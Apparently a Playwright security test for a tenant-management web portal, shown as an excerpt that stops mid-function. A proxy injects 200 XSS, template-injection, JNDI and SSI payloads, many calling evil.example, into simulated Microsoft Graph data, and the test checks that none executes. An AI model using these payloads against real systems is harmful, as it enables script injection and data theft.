// Hostile texts in real Chromium (B23): 200 payloads as names of users, groups, devices, policies,
// applications, licences, tenants and companies, as whatever members type, search for and ask paths for,
// in every page that `crates/portal/src/routes.rs` lists and in the fragments that scripts fetch. None
// may run, open a dialog, lead elsewhere, breach the policy or become an element; all are shown as text.
//
//   node payloads.mjs BINARY [SHOTS_FOLDER]
//
// Between the product and the simulated cloud stands a proxy that replaces the texts which people of a
// directory choose. Each text that goes in names its kind between ⟦ and ⟧, so that kinds which no page
// shows are known. At first the payloads are put unescaped into a page of the test's own, where each of
// them must be noticed: a test that cannot fail proves nothing.
import { spawnSync } from 'node:child_process';
import { createSign, generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, request as send } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import assert from 'node:assert/strict';
import { chromium } from 'playwright-core';
import { PASSWORD, binary, shots, start } from './harness.mjs';

const ENTRA = '/settings/integrations/entra';
const source = name => readFileSync(new URL(`../../crates/portal/src/${name}`, import.meta.url), 'utf8');

// ---------------------------------------------------------------------------------------- payloads

// §R runs, §A opens a dialog, §H marks an element, §N is the number. Each has a mark: of its own, or an
// element at its end.
const HANDLERS = [
  '<img src=x onerror=§R §H>', '<img/src="x"/onerror=§R/§H>', '<IMG SRC=x ONERROR=§R §H>', '<image src=x onerror=§R §H>',
  '<img src=x onerror="&#95;_ran(§N)" §H>', '<img src=x:x onerror\n=\n§R §H>', '<img src=x onerror=§A §H>', '<svg onload=§R §H>',
  '<svg/onload=§R/§H>', '<svg onload=§A §H>', '<svg><animate onbegin=§R attributeName=x dur=1s §H></svg>', '<svg><set onbegin=§R attributeName=x dur=1s §H></svg>',
  '<svg><image href=x onerror=§R §H></image></svg>', '<svg><foreignObject><img src=x onerror=§R §H></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>§R</script></svg>#x" §H></use></svg>',
  '<body onload=§R §H>', '<body onpageshow=§R §H>', '<iframe onload=§R §H></iframe>', '<video src=x onerror=§R §H></video>',
  '<video><source onerror=§R §H></video>', '<audio src=x onerror=§R §H></audio>', '<video poster=//evil.example/§N.png §H></video>',
  '<input autofocus onfocus=§R §H>', '<select autofocus onfocus=§R §H></select>', '<textarea autofocus onfocus=§R §H></textarea>',
  '<button autofocus onfocus=§R §H>x</button>', '<details open ontoggle=§R §H><summary>x</summary></details>', '<marquee onstart=§R §H>x</marquee>',
  '<style onload=§R §H></style>', '<link rel=stylesheet href=x onerror=§R §H>', '<object data=x onerror=§R §H></object>',
  '<embed src=x onerror=§R §H>', '<a onmouseover=§R §H>x</a>', '<p onpointerover=§R §H>x</p>', '<b onclick=§R §H>x</b>',
  '<x-hole onfocusin=§R tabindex=0 §H>x</x-hole>', '<div contenteditable autofocus onfocus=§R §H>x</div>',
  '<div style="animation:x 1s" onanimationstart=§R §H>x</div>', '<input type=image src=x onerror=§R §H>',
  '<button popovertarget=pop-§N onclick=§R §H>x</button><p popover id=pop-§N onbeforetoggle=§R>x</p>',
  '<math><mtext><img src=x onerror=§R §H></mtext></math>', '<frameset onload=§R §H>', '<table background=//evil.example/§N §H><tr><td>x</table>',
  '<dialog open onclick=§R §H>x</dialog>', '<meter onmouseover=§R §H>x</meter>',
];
const SCRIPTS = [
  '<script>§R</script>', '<SCRIPT>§R</SCRIPT>', '<script/x>§R</script>', '<script\t>§R</script\n>', '<script>§A</script>',
  '<script src=//evil.example/§N.js></script>', '<script src="data:text/javascript,§R"></script>', '<script type=module>§R</script>',
  '<scr<script>ipt>§R</scr</script>ipt>', '<svg><script>§R</script></svg>', '<svg><script href="data:text/javascript,§R" /></svg>',
  '<script>import("data:text/javascript,§R")</script>', '<x-hole §H><script>§R<!--', '<script nonce="" async src="https://evil.example/§N.js"></script>',
  '<template §H><script>§R</script></template>',
];
const ADDRESSES = [
  '<a href="javascript:§R" §H>x</a>', '<a href="JaVaScRiPt:§R" §H>x</a>', '<a href="java\tscript:§R" §H>x</a>', '<a href="&#106;avascript&colon;§R" §H>x</a>',
  '<a href="\u0001javascript:§R" §H>x</a>', '<a href="data:text/html,<script>§R</script>" §H>x</a>', '<a href="vbscript:§R" §H>x</a>',
  '<a href=/ ping=//evil.example/§N §H>x</a>', '<a href="https://evil.example/§N" target=_blank §H>x</a>', '<iframe src="javascript:§R" §H></iframe>',
  '<iframe src="javascript:parent.§R" §H></iframe>', '<iframe srcdoc="<script>§R</script>" §H></iframe>', '<iframe src="//evil.example/§N" §H></iframe>',
  '<iframe src="data:text/html,<script>§R</script>" §H></iframe>', '<embed src="javascript:§R" §H>', '<object data="data:text/html,<script>§R</script>" §H></object>',
  '<form action="javascript:§R" §H><button>x</button></form>', '<form §H><button formaction="javascript:§R">x</button></form>',
  '<form §H action=//evil.example/§N method=post><button>x</button></form>', '<button form=bulk formaction=//evil.example/§N §H>x</button>',
  '<area href="javascript:§R" §H>', '<base href="//evil.example/§N/" §H>', '<base href="javascript:/" §H>', '<base target="_top" §H>',
  '<meta http-equiv=refresh content="0;url=//evil.example/§N" §H>', '<meta http-equiv=refresh content="0;url=javascript:§R" §H>',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>§R</script>" §H>', '<link rel=stylesheet href=//evil.example/§N.css §H>',
  '<link rel=prefetch href=//evil.example/§N §H>', '<img src=//evil.example/§N.png §H>', '<img srcset="//evil.example/§N.png 1x" §H>',
  '<svg><a xlink:href="javascript:§R" §H><text>x</text></a></svg>', '<math><mtext href="javascript:§R" §H>x</mtext></math>', 'javascript:§R//', 'data:text/html,<script>§R</script>',
  '//evil.example/§N', 'https://evil.example/§N', '\\\\evil.example\\§N',
];
const BREAKOUTS = [
  '" onmouseover="§R" §H x="', '\' onmouseover=\'§R\' §H x=\'', '` onmouseover=`§R` §H x=`', ' onmouseover=§R §H ', '" autofocus onfocus="§R" §H x="',
  '"><img src=x onerror=§R §H>', '\'><img src=x onerror=§R §H>', '`><img src=x onerror=§R §H>', '></input><svg onload=§R §H>', '"/><script>§R</script>',
  '\\" onmouseover=\\"§R\\" §H x="', '&quot; onmouseover=&quot;§R&quot; x=&quot;', '&#34;><svg onload=§R>', '" href="javascript:§R" §H x="',
  '" formaction="javascript:§R" §H x="', '" srcdoc="<script>parent.§R</script>" §H x="', '" type=image src=x onerror="§R" §H x="',
  '" style="animation:x 1s" onanimationstart="§R" §H x="', '" hx-on:click="§R" hx-get="//evil.example/§N" hx-trigger="load" §H x="', '" data-copy="§R" data-go-on §H x="',
  '" is="x-hole" accesskey=x onclick="§R" §H x="', '</option><option onclick=§R §H>', '</select><img src=x onerror=§R §H>', '</button></form><form action=//evil.example/§N §H>',
  '</title><svg onload=§R §H>', '</textarea><svg onload=§R §H>', '</style><svg onload=§R §H>', '</script><script>§R</script>', '</ScRiPt ><svg onload=§R §H>',
  '</noscript><svg onload=§R §H>', '</template><svg onload=§R §H>', '</svg><img src=x onerror=§R §H>', '</td></tr></table><svg onload=§R §H>', '</pre></code><svg onload=§R §H>',
  '--><svg onload=§R §H>', '--!><svg onload=§R §H>', '<!--><svg onload=§R §H>-->', ']]><svg onload=§R §H>', '<![CDATA[<svg onload=§R §H>]]>', '<?xml version="1.0"?><svg onload=§R §H>',
  '<!DOCTYPE html><svg onload=§R §H>', '"}]}</script><script>§R</script>', '\';§R;//', '";§R;//', '\\\';§R;//', '`-${§R}-`', '*/§R/*', '\n§R\n//',
];
const TEMPLATES = [
  '{{constructor.constructor("§R")()}}', '{{{§R}}}', '${§R}', '#{§R}', '<%= §R %>', '{% raw %}<svg onload=§R §H>{% endraw %}', '[[${§R}]]',
  '<!--#exec cmd="id" --><!--#include virtual="/etc/passwd" -->', '<esi:include src="//evil.example/§N"/>', '${jndi:ldap://evil.example/§N}',
  '<div hx-get="//evil.example/§N" hx-trigger=load §H>x</div>', '<div hx-on:mouseover="§R" §H>x</div>', '<div hx-sse:connect="//evil.example/§N" §H></div>',
  '<hx-partial hx-target="#main" hx-swap=innerHTML §H><script>§R</script></hx-partial>', '\n\ndata: <script>§R</script>\n\nevent: done\n\n', '\r\nSet-Cookie: x=§N\r\n\r\n<script>§R</script>',
];
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=§R §H>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§R&gt;" §H>',
  '<form><math><mtext></form><form §H><mglyph><style></math><img src=x onerror=§R>', '<svg></p><style><a id="</style><img src=x onerror=§R §H>">',
  '<svg><style><g title="</style><img src=x onerror=§R §H>">', '<xmp><p title="</xmp><img src=x onerror=§R §H>">', '<listing §H>&lt;img src=x onerror=§R&gt;</listing>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=§R §H></annotation-xml></math>', '<select §H><template><svg onload=§R></template></select>',
  '<noembed><img title="</noembed><img src=x onerror=§R §H>">',
];
const ENCODED = [
  '&lt;script&gt;§R&lt;/script&gt;', '&#x3c;img src=x onerror=§R&#x3e;', '+ADw-script+AD4-§R+ADw-/script+AD4-', '%3Cscript%3E§R%3C/script%3E', '\\x3cscript\\x3e§R\\x3c/script\\x3e',
  '\\u003cimg src=x onerror=§R\\u003e', '＜script＞§R＜/script＞', '<\u0000script>§R</script>', '<img\u0000 src=x onerror=§R §H>', '\u0000<svg/onload=§R §H>', '<svg\fonload=§R §H>',
  '\u202e<svg onload=§R §H>\u202c', '\u2066\u2028<svg onload=§R §H>\u2069', '\ufeff<svg onload=§R §H>', '\u001b[31m\u0008<svg onload=§R §H>', '<\u017fcript>§R</\u017fcript>',
  `${'A'.repeat(2000)}<svg onload=§R §H>`, `${'"'.repeat(300)}<svg onload=§R §H>`,
];
const STYLES = [
  '<style §H>@import "//evil.example/§N.css";</style>', '<style §H>*{background:url(//evil.example/§N)}</style>', '<p style="width:expression(§R)" §H>x</p>', '<p style="position:fixed;inset:0" §H>x</p>',
  '<img src="//evil.example/§N?§H', '<plaintext §H>', '=HYPERLINK("//evil.example/§N","x")',
];
const NAMES = ['<form id=htmx §H><input name=config></form>', '<img name=body §H>', '<a id=toasts href=x §H>x</a>'];

const RUN = n => `__ran(${n})`;
const PAYLOADS = [HANDLERS, SCRIPTS, ADDRESSES, BREAKOUTS, TEMPLATES, MUTATIONS, ENCODED, STYLES, NAMES].flat().map((text, n) =>
  (text.includes('§H') ? text : `${text} <x-hole §H></x-hole>`)
    .replaceAll('§R', RUN(n)).replaceAll('§A', `alert(${n})`).replaceAll('§H', `data-hole=${n} `).replaceAll('§N', n));
assert.equal(new Set(PAYLOADS).size, 200, `${PAYLOADS.length} payloads`);

/** One in lower case without a blank, as an e-mail address may be. */
const address = n => `"><svg/onload=${RUN(n)}/data-hole=${n}>@evil.example`;
/** One without a blank, a slash or a colon, as a domain may be. */
const domain = n => `"onpointerover="${RUN(n)}"data-hole="${n}"x="><x-hole>⟦domains.id⟧.number${n}.example`;
/** What browsers and the product leave of a text: without blanks, controls and marks that nobody sees. */
const bare = text => text.replace(/[\s\p{Cc}\p{Cf}\ufffd]+/gu, '').toLowerCase();
const NEEDLES = PAYLOADS.map(bare);

const counters = new Map();
/** The next payload for a kind of text that takes so many characters, with the kind; short texts take no controls. */
function text(kind, most = 5000) {
  const first = kind.endsWith('users.displayName') ? 0 : [...kind].reduce((sum, c) => sum * 31 + c.codePointAt(0), 7) % 200;
  for (;;) {
    const n = counters.get(kind) ?? first;
    counters.set(kind, n + 1);
    const made = `${PAYLOADS[n % 200]} ⟦${kind.split('|').at(-1)}⟧`;
    if (made.length <= most && (most > 200 || !/\p{Cc}/u.test(made))) return made;
  }
}

// ------------------------------------------------------------------------------------------ proxy

const TEXTS = new Set(`displayName givenName surname jobTitle department officeLocation companyName employeeId employeeType description mail
  userPrincipalName onPremisesSamAccountName deviceName operatingSystem operatingSystemVersion osVersion manufacturer model serialNumber
  userDisplayName appDisplayName activityDisplayName resultReason loggedByService failureReason city clientAppUsed ipAddress title controlCategory
  service userImpact implementationCost implementationStatus remediation remediationImpact skuPartNumber servicePlanName publisherDomain
  membershipRule resourceDisplayName defaultDomainName source activity contractType`.split(/\s+/));
/** Where Graph says null, or nothing, and a person could have said something. */
const EMPTY = new Set(['displayName', 'description', 'officeLocation', 'jobTitle', 'department']);
const LISTS = new Set(['threats', 'methodsRegistered', 'supportedServices']);
const URLS = ['javascript:§R//', 'data:text/html,<script>§R</script>', '//evil.example/§N', 'https://evil.example/"><svg onload=§R §H>', ' javascript:§R', 'vbscript:§R', 'https:javascript:§R'];

/** The simulated cloud, in which people chose hostile names. */
class Cloud {
  constructor(behind) {
    this.behind = new URL(behind);
    this.kept = new Map();
    this.tenants = new Map();
    this.kinds = new Set();
    this.generation = 0;
    this.refuses = undefined; // a directory of which Graph refuses parts, in hostile words
    this.domains = undefined; // a directory whose domains are hostile
    this.silent = false; // answers nothing
    this.rejects = undefined; // a client that gets no token, in hostile words
    this.keys = generateKeyPairSync('rsa', { modulusLength: 2048 });
  }

  async start() {
    this.server = createServer((request, response) => this.answer(request, response).catch(error => {
      console.error('proxy:', error);
      response.destroy();
    }));
    await new Promise(done => { this.server.listen(0, '127.0.0.1', done); });
    this.root = `http://127.0.0.1:${this.server.address().port}/`;
  }

  stop() {
    this.server.closeAllConnections();
    this.server.close();
  }

  async answer(request, response) {
    if (request.url.startsWith('/_raw/')) return raw(request.url, response);
    if (this.silent) return response.writeHead(204).end();
    const body = await whole(request);
    // The host stays: the cloud makes its links of it, and they lead here.
    const headers = { ...request.headers };
    delete headers['accept-encoding'];
    const back = await new Promise((resolve, reject) => {
      const sent = send({ host: this.behind.hostname, port: this.behind.port, path: request.url, method: request.method, headers: { ...headers, connection: 'close' } }, resolve);
      sent.on('error', reject);
      sent.end(body);
    });
    let answer = await whole(back);
    let status = back.statusCode;
    const out = { ...back.headers };
    delete out['transfer-encoding'];
    const path = new URL(request.url, this.root).pathname;
    if (out.location?.includes('error_description=')) {
      const to = new URL(out.location);
      to.searchParams.set('error_description', text('consent.error_description'));
      out.location = to.href;
    }
    if (out['content-type']?.includes('json')) {
      const changed = this.changed(path, request, String(body), status, JSON.parse(String(answer) || 'null'));
      status = changed.status;
      answer = Buffer.from(JSON.stringify(changed.json));
    }
    out['content-length'] = answer.length;
    response.writeHead(status, out);
    response.end(answer);
  }

  changed(path, request, body, status, json) {
    if (path.endsWith('/discovery/v2.0/keys')) {
      const { n, e } = this.keys.publicKey.export({ format: 'jwk' });
      return { status, json: { keys: json.keys.slice(0, 1).map(key => ({ ...key, n, e })) } };
    }
    if (path.endsWith('/oauth2/v2.0/token')) {
      if (this.rejects && body.includes(this.rejects)) {
        return { status: 400, json: { error: this.note(text('token.error')), error_description: text('token.error_description') } };
      }
      if (json.access_token) this.tenants.set(json.access_token, path.split('/')[1]);
      if (json.id_token) json.id_token = this.signed(json.id_token);
      return { status, json };
    }
    const graph = path.match(/^\/(?:v1\.0|beta)\/(.*)/);
    if (!graph) return { status, json };
    const tenant = this.tenants.get((request.headers.authorization ?? '').slice(7)) ?? '';
    if (graph[1] === '$batch' && json.responses) {
      const asked = new Map(JSON.parse(body).requests.map(r => [r.id, r.url]));
      for (const part of json.responses) {
        if (part.status < 300 && part.body && typeof part.body === 'object') this.rewrite(tenant, collection(asked.get(part.id)), part.body);
      }
      return { status, json };
    }
    const name = collection(graph[1]);
    if (tenant === this.refuses) {
      const refused = { devices: 400, policies: 403, subscribedSkus: 404, riskyUsers: 400 }[name];
      const told = () => this.note(text('graph.error.code', 200));
      if (refused) return { status: refused, json: { error: { code: told(), message: text('graph.error.message') } } };
      // What cannot be read is told of in words that hold it.
      if (name === 'domains' && this.generation > 0) return { status, json: { value: [{ id: 'x.example', isDefault: this.note(text('graph.malformed')) }] } };
    }
    if (status < 300) this.rewrite(tenant, name, json);
    return { status, json };
  }

  note(made) {
    this.kinds.add(made.match(/⟦(.*)⟧/)[1]);
    return made;
  }

  /** The same text for the same property of the same object, until the next generation. */
  choose(tenant, kind, id, most) {
    const key = `${tenant}|${kind}|${id}|${this.generation}`;
    if (!this.kept.has(key)) this.kept.set(key, this.note(text(`${tenant}|${kind}`, most)));
    return this.kept.get(key);
  }

  domain(name) {
    if (!this.kept.has(name)) this.kept.set(name, this.note(domain(this.kept.size % 200)));
    return this.kept.get(name);
  }

  rewrite(tenant, name, value, id = '', at = name) {
    if (Array.isArray(value)) {
      value.forEach((item, n) => this.rewrite(tenant, name, item, item?.id ?? `${id}.${n}`, at));
      return;
    }
    if (!value || typeof value !== 'object') return;
    const own = value.id ?? value.tenantId ?? value.controlName ?? id;
    const put = (key, most) => this.choose(tenant, `${at}.${key}`, own, most);
    for (const [key, old] of Object.entries(value)) {
      if (key.startsWith('@odata.') || key === 'appRoles' || key === 'requiredResourceAccess') continue;
      if (TEXTS.has(key) && (typeof old === 'string' || (old === null && EMPTY.has(key)))) value[key] = put(key, name === 'organization' || name === 'delegatedAdminCustomers' ? 150 : 5000);
      else if (LISTS.has(key)) value[key] = [...old, put(key)];
      else if (key === 'actionUrl') value[key] = URLS[this.kept.size % URLS.length].replace('§R', RUN(0)).replace('§H', 'data-hole=0').replace('§N', 0);
      else if (key === 'alternativeNames') value[key] = old.map(one => (one.startsWith('/subscriptions/') ? `${one}/${put(key)}` : one));
      else if (key === 'status' && name === 'delegatedAdminRelationships') value[key] = put(key);
      else if (key === 'conditions' && name === 'policies') old.note = put('conditions');
      else if (key === 'verifiedDomains' && tenant === this.domains) for (const one of old) one.name = this.domain(one.name);
      else if (key === 'value' || key === 'members@delta' || key === 'owners@delta') this.rewrite(tenant, name, old, own, at);
      else if (old && typeof old === 'object') this.rewrite(tenant, name, old, `${own}.${key}`, `${at}.${key}`);
    }
    if (name === 'users' && at === name && value.displayName) value.officeLocation ??= put('officeLocation');
    if (name === 'domains' && tenant === this.domains && value.id) value.id = this.domain(value.id);
  }

  /** An id token of somebody with a hostile name, signed anew. */
  signed(token) {
    const [head, body] = token.split('.');
    const claims = JSON.parse(Buffer.from(body, 'base64url'));
    claims.preferred_username = this.note(text('id_token.preferred_username', 190));
    claims.name = text('id_token.name');
    const made = `${head}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}`;
    return `${made}.${createSign('RSA-SHA256').update(made).sign(this.keys.privateKey, 'base64url')}`;
  }
}

async function whole(stream) {
  const parts = [];
  for await (const part of stream) parts.push(part);
  return Buffer.concat(parts);
}

/** `groups/{id}/members` is `groups.members`; `identity/conditionalAccess/policies` is `policies`. */
function collection(url) {
  const parts = url.split('?')[0].replace(/\(.*?\)/g, '').split('/').filter(part => part && part !== 'delta');
  const names = parts.filter(part => !/\d.*-.*\d/.test(part));
  return names.length === parts.length ? names.at(-1) : names.slice(-2).join('.');
}

/** A page of the test's own, in which a payload stands unescaped wherever a careless product would put it. */
function raw(url, response) {
  const [, , n, policy] = url.split('/');
  const p = PAYLOADS[n];
  response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...(policy ? { 'content-security-policy': decodeURIComponent(policy) } : {}) });
  response.end(`<!doctype html><title>raw</title><p title="${p}">x</p><p title='${p}'>x</p><p title=\`${p}\`>x</p><p title=${p}>x</p>
    <div>${p}</div><script>var x = "${p}"</script><script>var x = '${p}'</script><textarea>${p}</textarea><noscript>${p}</noscript><!-- ${p} --><p>end`);
}

// --------------------------------------------------------------------------------------- watching

const findings = [];
const state = { pages: 0, shown: new Map(), kinds: new Set(), links: new Map(), routes: new Map(), root: '', microsoft: '' };
const labels = new WeakMap();
/** Pages that are on their way through Microsoft's. */
const abroad = new WeakSet();

function find(page, what) {
  const label = labels.get(page) ?? page?.url();
  const number = what.match(/(?:__ran\(|data-hole="?|alert\(|payload )(\d+)/)?.[1];
  findings.push(`${label}: ${what}${number === undefined ? '' : `\n    payload ${number}: ${JSON.stringify(PAYLOADS[number])}`}`);
}

async function watch(context) {
  await context.exposeBinding('__ran', ({ page }, n) => find(page, `the script of payload ${n} ran`));
  await context.exposeBinding('__breach', ({ page }, what) => find(page, `policy violation ${what}`));
  await context.addInitScript(() => addEventListener('securitypolicyviolation', e => globalThis.__breach?.(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`), true));
  context.on('page', page => {
    page.on('dialog', async dialog => { find(page, `dialog ${dialog.type()} payload ${dialog.message()}`); await dialog.dismiss().catch(() => {}); });
    page.on('popup', popup => find(page, `opened ${popup.url()}`));
    page.on('download', download => find(page, `download of ${download.url()}`));
    page.on('request', request => {
      const { origin, protocol } = new URL(request.url());
      if (protocol === 'about:' || origin === state.root || (abroad.has(page) && origin === state.microsoft)) return;
      find(page, `request for ${request.url().slice(0, 300)}`);
    });
    page.on('framenavigated', frame => {
      if (frame !== page.mainFrame() || !frame.url()) { find(page, `a frame at ${frame.url().slice(0, 300)}`); return; }
      const { origin, protocol } = new URL(frame.url());
      if (!/^(about|chrome-error):$/.test(protocol) && origin !== state.root && !(abroad.has(page) && origin === state.microsoft)) find(page, `went to ${frame.url().slice(0, 300)}`);
    });
    page.on('console', message => { if (message.type() === 'error' && !/status of 4\d\d/.test(message.text())) find(page, `console: ${message.text().slice(0, 400)}`); });
    page.on('pageerror', error => find(page, `error of script: ${error}`));
    page.on('response', response => {
      const url = new URL(response.url());
      if (url.origin !== state.root) return;
      const headers = response.headers();
      if (response.status() >= 500) find(page, `answered ${response.status()}`);
      if (headers['x-content-type-options'] !== 'nosniff') find(page, `no nosniff at ${url.pathname}`);
      if (headers['content-type']?.startsWith('text/html') && !/script-src 'self'; style-src 'self'/.test(headers['content-security-policy'] ?? '')) find(page, `no policy at ${url.pathname}`);
      note(response.request().method(), url.pathname, response.status());
    });
  });
}

/** All routes of the portal, those with fewest gaps first. */
const ROUTES = [...source('routes.rs').matchAll(/^ {4}(get|post|patch|delete|put) "([^"]+)" \w+(?:\(\w+\))?, (?:\w+::)?(\w+)::\w+;/gm)]
  .map(([, method, path, file_]) => ({ method, path, file: file_, gaps: (path.match(/\{/g) ?? []).length,
    pattern: new RegExp(`^${path.replace(/[.]/g, '\\.').replace(/\{\w+:\\\.\*\}/g, '.*').replace(/\{\w+\}/g, '[^/]+')}$`) }))
  .sort((a, b) => a.gaps - b.gaps);
const routeOf = (method, path) => ROUTES.find(route => route.method === method.toLowerCase() && route.pattern.test(path));

function note(method, path, status) {
  const route = routeOf(method, path);
  if (!route) return;
  const key = `${route.method} ${route.path}`;
  if (!state.routes.has(key)) state.routes.set(key, new Set());
  state.routes.get(key).add(status);
}

/** Looks for what became markup, in the page itself, then moves a pointer over everything. */
function search({ needles, elsewhere, stir }) {
  const bad = [];
  if (document.contentType !== 'text/html') {
    // As a browser shows text and JSON, with an element of its own around it.
    if (document.querySelector('[data-hole], x-hole')) bad.push(`element in ${document.contentType}`);
    const text = (document.documentElement?.textContent ?? '').replace(/\\[nrtu"\\][0-9a-f]{0,4}|[\s\p{Cc}\p{Cf}\ufffd]+/giu, '').toLowerCase();
    return { bad, kinds: [], shown: needles.flatMap((needle, n) => (text.includes(needle) ? [n] : [])), links: [] };
  }
  const say = (what, e) => bad.push(`${what}: ${(e.outerHTML ?? e.data ?? '').slice(0, 300)}`);
  const never = new Set(['iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'portal', 'marquee', 'math', 'audio', 'video', 'source', 'style', 'image',
    'foreignobject', 'animate', 'set', 'x-hole', 'plaintext', 'xmp', 'listing', 'img', 'area', 'dialog', 'hx-partial', 'noembed']);
  const addresses = new Set(['href', 'src', 'action', 'formaction', 'data', 'poster', 'cite', 'xlink:href', 'srcset', 'hx-get', 'hx-post', 'hx-sse:connect', 'manifest']);
  if (document.baseURI !== location.href) bad.push(`base ${document.baseURI}`);
  const texts = [];
  for (const e of document.querySelectorAll('*')) {
    const tag = e.localName.toLowerCase();
    if (never.has(tag)) say('element', e);
    if (tag === 'script' && (e.text || !/^\/static\/js\//.test(e.getAttribute('src') ?? ''))) say('script', e);
    if (tag === 'meta' && e.httpEquiv && !elsewhere) say('meta', e);
    for (const { name, value } of e.attributes) {
      if (!/^[a-z][a-z0-9:._-]*$/i.test(name) || /^on|^hx-on|^(style|srcdoc|ping|background|data-hole|formaction|is)$/i.test(name)) say(`attribute ${name}`, e);
      if (addresses.has(name)) {
        let to;
        try { to = new URL(value, document.baseURI); } catch { say(`address ${name}`, e); continue; }
        const control = /^\/companies\/[^/]+\/secure-score\/./.test(location.pathname) && tag === 'a' && to.protocol === 'https:';
        if (to.origin !== location.origin && !control && to.origin !== elsewhere) say(`address ${name}`, e);
      }
      if (['value', 'title', 'aria-label', 'placeholder', 'data-copy', 'data-email'].includes(name)) texts.push(value);
    }
    if (typeof e.value === 'string') texts.push(e.value);
  }
  const walker = document.createTreeWalker(document, NodeFilter.SHOW_TEXT | NodeFilter.SHOW_COMMENT);
  while (walker.nextNode()) {
    const node = walker.currentNode;
    if (node.nodeType === Node.COMMENT_NODE) { if (/hole|__ran|evil/.test(node.data)) say('comment', node); } else texts.push(node.data);
  }
  const all = texts.join('\n');
  const kinds = [...new Set(all.match(/⟦[^⟧\n]+⟧/g))].map(kind => kind.slice(1, -1));
  const text = all.replace(/[\s\p{Cc}\p{Cf}\ufffd]+/gu, '').toLowerCase();
  const shown = needles.flatMap((needle, n) => (text.includes(needle) ? [n] : []));
  const links = [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href')).filter(href => /^\/(?!\/)/.test(href));
  if (stir) {
    addEventListener('click', e => e.preventDefault(), true);
    // Each element hears it itself; what a person can use is also heard by the scripts of the page.
    const used = new Set(document.querySelectorAll('a, button, summary, input, select, textarea, label, [tabindex], [data-copy]'));
    for (const e of document.querySelectorAll('body, body *')) {
      for (const type of ['pointerover', 'mouseover', 'mouseenter', 'focus', 'focusin', 'click']) e.dispatchEvent(new Event(type, { bubbles: used.has(e), cancelable: true }));
    }
  }
  return { bad, kinds, shown, links };
}

/** Looks at the page where it is. `stir` false where somebody goes on using it. */
async function look(page, { stir = true, elsewhere = '' } = {}) {
  let seen;
  for (let tries = 0; !seen; tries += 1) {
    // A live page may load itself anew just now.
    seen = await page.evaluate(search, { needles: NEEDLES, elsewhere, stir }).catch(error => { if (tries > 2) throw error; });
    if (!seen) await page.waitForLoadState();
  }
  const label = labels.get(page) ?? page.url();
  for (const what of seen.bad) find(page, what);
  if (page.frames().length > 1) find(page, `${page.frames().length} frames`);
  state.pages += 1;
  if (!state.shown.has(label)) state.shown.set(label, new Set());
  for (const n of seen.shown) state.shown.get(label).add(n);
  for (const kind of seen.kinds) state.kinds.add(kind);
  for (const href of seen.links) {
    const path = href.split(/[?#]/)[0];
    if (!state.links.has(path)) state.links.set(path, new Set());
    if (href.includes('?')) state.links.get(path).add(href.split('#')[0]);
  }
  return seen;
}

const label = (page, what) => labels.set(page, decodeURIComponent(what.replace(/%(?![0-9a-f]{2})/gi, '%25')).slice(0, 400));

/** Opens a path, proves who it is where that is asked for, and looks. */
async function visit(page, path, options) {
  try { label(page, path); } catch { labels.set(page, path); }
  for (let tries = 0; ; tries += 1) {
    const problem = await page.goto(state.root + path).then(() => '', String);
    if (!problem) break;
    if (problem.includes('ERR_HTTP_RESPONSE_CODE_FAILURE')) {
      // An answer without a body, which Chromium replaces with a page of its own.
      while (!await page.goto('about:blank').then(() => true, () => false));
      return { shown: [] };
    }
    // A live page that loads itself anew just then is in the way; what leads elsewhere is noted all the same.
    if (tries > 2 || !/ERR_ABORTED|interrupted by another/.test(problem)) throw new Error(problem);
  }
  if (new URL(page.url()).pathname === '/prove' && !path.startsWith('/prove')) await prove(page);
  return look(page, options);
}

async function prove(page) {
  await page.getByLabel('Your password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Confirm' }).click();
  await page.waitForURL(url => url.pathname !== '/prove');
}

/** Sends a form as it stands on the page, with texts in its fields, and looks at the answer. */
async function submit(page, action, values, { every = false, button } = {}) {
  const path = new URL(page.url()).pathname;
  const sent = page.evaluate(([to, texts, all, press]) => {
    // A button may be named action.
    const forms = [...document.forms].filter(f => f.getAttribute('method') === 'post' && (new URL(f.getAttribute('action') ?? '', location.href).pathname === to));
    const form = forms.find(f => Object.keys(texts).every(name => name === '*' || f.elements.namedItem(name))) ?? forms[0];
    if (!form) throw new Error(`no form for ${to}`);
    for (const field of form.elements) {
      const value = texts[field.name] ?? texts['*'];
      const kind = field.type;
      if (value === undefined || ['file', 'submit', 'button', 'fieldset', 'checkbox', 'radio'].includes(kind)) continue;
      if (kind === 'select-one') { if (all) { field.add(new Option(value, value)); field.value = value; } continue; }
      if (kind === 'hidden' && !all) continue;
      if (kind !== 'textarea' && kind !== 'hidden') field.type = 'text';
      field.value = value;
    }
    if (press) form.append(Object.assign(document.createElement('input'), { type: 'hidden', name: press[0], value: press[1] }));
    HTMLFormElement.prototype.submit.call(form);
  }, [action, values, every, button]);
  await Promise.all([page.waitForEvent('domcontentloaded'), sent]);
  await page.waitForLoadState();
  labels.set(page, `${action} (form of ${path})`);
  if (new URL(page.url()).pathname === '/prove' && path !== '/prove') await prove(page);
  return look(page);
}

// ----------------------------------------------------------------------------------- installation

async function install() {
  const folder = mkdtempSync(join(tmpdir(), 'tenantry-payloads-'));
  const sim = start(['sim', '--sim-listen', '127.0.0.1:0'], [/cloud: (\S+)/, /graph = "(\S+)"/], folder);
  const [behind] = await sim.ready;
  const cloud = new Cloud(behind);
  await cloud.start();
  writeFileSync(join(folder, 'tenantry.toml'),
    `[clouds.custom]\nlabel = "Simulated Microsoft cloud"\nlogin = "${cloud.root}"\ngraph = "${cloud.root}"\nlimits = "none"\n`);
  const where = ['--data-dir', join(folder, 'data'), '--config', 'tenantry.toml'];
  const server = start(['serve', '--listen', '127.0.0.1:0', ...where], [/listens on (\S+)\//, /Set up at: (\S+)/], folder);
